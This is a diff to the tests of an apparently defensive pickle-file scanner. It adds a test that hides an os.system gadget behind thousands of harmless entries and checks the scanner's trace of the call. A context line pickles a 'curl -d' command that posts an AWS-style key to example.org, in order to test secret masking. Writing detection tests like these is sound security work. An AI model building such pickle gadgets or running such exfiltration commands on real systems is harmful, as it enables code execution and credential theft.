@@ -62,6 +62,15 @@ def test_the_call_is_told_with_its_argument_and_offset():
     assert [step["does"] for step in finding.details["loading"]] == ["import os.system", "os.system('echo inert')"]
 
 
+def test_a_call_behind_thousands_of_others_is_told_with_what_leads_to_it():
+    noise = b"".join(named("collections", "OrderedDict") + b")R0" for _ in range(2000))
+    (finding,) = [item for item in scan(pickled(noise + gadget("os.system"), 0)) if hasattr(item, "rule")]
+    steps = finding.details["loading"]
+    assert len(steps) <= 60
+    assert steps[-1]["does"] == "os.system('echo inert')"
+    assert [step["does"] for step in steps if step["offset"] in steps[-1]["uses"]] == ["import os.system"]
+
+
 def test_secrets_in_arguments_are_masked():
     key = "AK" + "IA" + "QYLPMN5HHHFPZAM2"
     shown = str(scan(pickled(gadget("os.system", text(f"curl -d {key} example.org")))))
